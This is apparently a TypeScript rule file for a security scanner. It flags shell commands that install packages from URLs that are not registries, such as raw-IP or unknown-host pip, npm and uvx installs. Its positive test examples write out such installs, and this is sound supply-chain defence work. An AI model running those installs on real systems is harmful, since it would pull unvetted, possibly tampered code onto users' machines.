import type { Evidence } from '../evidence.js'
import { findAddresses } from '../facts/address.js'
import { isBelow } from '../facts/domain.js'
import { registryDomains } from '../facts/registries.js'
import type { CommandFact } from '../flow/shell/shell-state.js'
import type { Observation, Rule } from '../rule.js'

export const rule: Rule = {
  id: 'SK-SC001',
  pattern: 'dependency from a url',
  severity: 'warn',
  tags: ['AST02', 'CWE-494', 'T1195.001'],
  why: 'A package from a URL bypasses the registry, its names, its versions and its takedowns.',
  fix: 'Publish the package, or pin a commit of a public repository.',
  raisedWhen: 'the address has no name or no protection',
  examples: {
    positive: [
      '```bash\npip install http://192.0.2.120/pyyaml-6.1.tar.gz\n```\n',
      '```bash\npip install git+https://code.example.net/django.git@stable-patched\n```\n',
      '```bash\nnpm i https://pkg.example.net/yaml.tgz\n```\n',
      '```bash\nuvx --from git+https://git.example.net/x/y.git tool\n```\n',
    ],
    negative: [
      '```bash\npip install pyyaml==6.0.1\n```\n',
      '```bash\npip install git+https://github.com/pallets/flask.git@3.0.0\n```\n',
      '```bash\nnpm install ./packages/local\n```\n',
      '```bash\nnpx lighthouse https://app.example.com\n```\n',
    ],
  },
  find: ({ commands }: Evidence) => commands.flatMap(judge),
}

const MANAGERS = /^(?:pip3?|npm|pnpm|yarn|bun|uv|pipx|gem|cargo|go|easy_install|conda|poetry|npx|uvx|bunx)$/
const FETCHES = /^(?:pip )?(?:install|i|add|download|get)\b/
const INDEX = /--(?:index-url|extra-index-url|registry|find-links)|\s-i\s|\s-f\s/
const PUBLIC: ReadonlySet<string> = new Set([
  ...registryDomains('pythonhosted', 'jsr'),
  ...'pytorch.org storage.googleapis.com'.split(' '),
])

function judge({ name, words, segment, at }: CommandFact): readonly Observation[] {
  if (!MANAGERS.test(name) && !name.startsWith('python')) return []
  const line = RUNNERS.test(name) ? packageRun(words) : installed(name, words.join(' '))
  // With a custom index, the address is the index itself.
  if (line === undefined || INDEX.test(` ${line} `)) return []
  const address = findAddresses(line)[0]
  if (address === undefined || ['code', 'known', 'loopback'].includes(address.kind) || isBelow(address.host, PUBLIC))
    return []
  const severity = address.isPlain || address.kind === 'raw-ip' ? 'block' : 'warn'
  return [{ segment, at, severity, message: `Installs a package from ${address.host}` }]
}

const RUNNERS = /^(?:npx|uvx|bunx)$/

function installed(name: string, line: string): string | undefined {
  const isInstall = name.startsWith('python') ? /^-m pip install/.test(line) : FETCHES.test(line)
  return isInstall ? line : undefined
}

/** The package that is fetched and run: the first word, or an option's value; the rest are its own arguments. */
function packageRun(words: readonly string[]): string | undefined {
  const option = words.findIndex((word) => /^(?:--from|-p|--package|--with)$/.test(word))
  return option < 0 ? words.find((word) => !word.startsWith('-')) : words[option + 1]
}
